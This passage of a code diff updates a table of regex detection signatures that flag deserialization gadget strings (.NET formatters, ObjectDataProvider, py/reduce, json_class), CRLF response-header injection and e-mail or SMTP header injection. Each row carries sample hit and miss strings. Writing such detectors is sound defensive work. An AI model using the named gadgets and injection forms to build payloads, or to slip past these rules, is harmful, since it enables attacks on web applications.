-    pattern: String.raw`\bsystem\.(?:windows|diagnostics|io|data|configuration|management|web|security|activities|workflow|runtime)\.[a-z.0-9]{3,60}, ?(?:presentation|system|mscorlib|microsoft)|^py/(?:object|reduce|type|function|newargs)$|^json_class$|\bexpandedwrapper${"`"}2|<objectdataprovider|<java\.util\.priorityqueue|clr-namespace:system[a-z.]{0,40};assembly|system\.(?:runtime\.serialization\.formatters|web\.ui\.(?:objectstateformatter|losformatter))|\blosformatter\b`,
-    needs: ["system", "py/", "json_class", "expandedw", "objectdata", "priorityq", "losformatter"],
+    pattern: String.raw`\bsystem\.(?:windows|diagnostics|io|data|configuration|management|web|security|activities|workflow|runtime)\.[a-z.0-9]{3,60}, ?(?:presentation|system|mscorlib|microsoft)|^py/(?:object|reduce|type|function|newargs)(?:$|/apply|:)|^json_class$|^__js_function$|\bexpandedwrapper(?:${"`"}2|of)|<objectdataprovider|<serializable xmlns ?=|<java\.util\.priorityqueue|clr-namespace:system[a-z.]{0,40};assembly|system\.(?:runtime\.serialization\.formatters|web\.ui\.(?:objectstateformatter|losformatter))|\blosformatter\b`,
+    needs: ["system", "py/", "json_class", "__js_function", "<serializable", "expandedw", "objectdata", "priorityq", "losformatter"],
     hits: ["System.Diagnostics.Process, System", "py/object", "json_class"],
     misses: ["System.IO.FileNotFoundException: Could not find file", "happy/object", "system.data, they said"],
   },
@@ -638,7 +647,7 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "header-injection",
     title: "Response header injection",
-    pattern: String.raw`^[^\r\n ]{0,300}[\r\n]{1,8}[ \t]?(?:[^\r\n]{0,60}[\r\n]{1,4})?(?:set-cookie2?|location|content-type|content-length|content-disposition|content-encoding|connection|last-modified|etag|expires|p3p|vary|www-authenticate|refresh|link|access-control-[a-z-]{3,30}|transfer-encoding|status|server|cache-control|host|via|content-security-policy|strict-transport-security|alt-svc|clear-site-data|content-[a-z-]{4,30}|permissions-policy|referrer-policy|report-to|cross-origin-[a-z-]{8,20}|proxy-auth[a-z]{4,12}|keep-alive|accept-ranges|retry-after|pragma|cookie|origin|user-agent|authorization|forwarded|x-[a-z-]{2,30}|mime-version) ?:|^[^\r\n ]{0,300}[\r\n]{1,8}(?:http/[0-9]|<html|<script|(?:get|post|put) /)`,
+    pattern: String.raw`^[^\r\n ]{0,300}[\r\n]{1,8}[ \t]?(?:[^\r\n]{0,60}[\r\n]{1,4})?(?:set-cookie2?|location|content-type|content-length|content-disposition|content-encoding|connection|last-modified|etag|expires|p3p|vary|www-authenticate|refresh|link|access-control-[a-z-]{3,30}|transfer-encoding|status|server|cache-control|host|via|content-security-policy|strict-transport-security|alt-svc|clear-site-data|content-[a-z-]{4,30}|permissions-policy|referrer-policy|report-to|cross-origin-[a-z-]{8,20}|proxy-auth[a-z]{4,12}|keep-alive|accept-ranges|retry-after|pragma|cookie|origin|user-agent|authorization|forwarded|x-[a-z-]{2,30}|mime-version|dnt|accept|referer) ?:|^[^\r\n ]{0,300}[\r\n]{1,8}(?:http/[0-9]|<html|<script|(?:get|post|put) /)`,
     beginsValue: true,
     unless: isNestedPart,
     needs: [":", "http/", "<html", "<script", " /"],
@@ -650,7 +659,7 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "mail-injection",
     title: "E-mail or request header injection",
-    pattern: String.raw`^[^\r\n @]{1,64}@[^\r\n @]{1,64}[\r\n]{1,2}\.?[\r\n]{0,2}(?:(?:bcc|cc|to|subject|from|reply-to) ?:|mail from:|rcpt to:|data[\r\n])|^[^\r\n ]{0,64}[\r\n]{1,4}\.?[\r\n]{0,4}(?:mail from: ?<|rcpt to: ?<|quit(?:[\r\n]|$)|(?:ehlo|helo) [a-z]|rset[\r\n])|^[a-z0-9 ]{0,40}[\r\n]{1,4}[a-z]\d{1,4} (?:capability|fetch|login|logout|select|list|noop)\b|^[^\r\n ]{0,64} http/1\.[01]\r?\n[a-z-]{2,30}:|^[^\\ ]{0,64}\\[nr](?:\\n)?(?:set-cookie|location|content-[a-z-]{4,20}|x-[a-z-]{2,30}|access-control-[a-z-]{3,30}|link|status|refresh|host|transfer-encoding|cache-control) ?:|^[^\r\n ]{0,64}\r?\ndata[\r\n]|^[^\xc4\xe5 ]{0,64}(?:\xe5\x98[\x8a\x8d]|\xc4[\x8a\x8d]){1,4}(?:(?:set-cookie|location|content-|x-|access-control-|link|status|refresh|host|transfer-)[a-z0-9-]{0,30} ?:|http/)`,
+    pattern: String.raw`^[^\r\n @]{1,64}@[^\r\n @]{1,64}[\r\n]{1,2}\.?[\r\n]{0,2}(?:(?:bcc|cc|to|subject|from|reply-to) ?:|mail from:|rcpt to:|data[\r\n])|^[^\r\n ]{0,64}[\r\n]{1,4}\.?[\r\n]{0,4}(?:mail from: ?<|rcpt to: ?<|quit(?:[\r\n]|$)|(?:ehlo|helo) [a-z]|rset[\r\n])|^[a-z0-9 ]{0,40}[\r\n]{1,4}[a-z]\d{1,4} (?:capability|fetch|login|logout|select|list|noop)\b|^[^\r\n]{1,100}[\r\n]{1,4}bcc ?: ?[^\r\n @]{1,64}@[^\r\n ]{1,64}\s{0,4}$|^[^\r\n ]{0,64} http/1\.[01]\r?\n[a-z-]{2,30}:|^[^\\ ]{0,64}\\[nr](?:\\n)?(?:set-cookie|location|content-[a-z-]{4,20}|x-[a-z-]{2,30}|access-control-[a-z-]{3,30}|link|status|refresh|host|transfer-encoding|cache-control) ?:|^[^\r\n ]{0,64}\r?\ndata[\r\n]|^[^\xc4\xe5 ]{0,64}(?:\xe5\x98[\x8a\x8d]|\xc4[\x8a\x8d]){1,4}(?:(?:set-cookie|location|content-|x-|access-control-|link|status|refresh|host|transfer-)[a-z0-9-]{0,30} ?:|http/)`,
     beginsValue: true,
     reading: "lines",
     needs: [":", "data", "quit", "ehlo", "helo", "rset", "capability", "fetch", "login", "logout", "select", "list", "noop", "http/"],
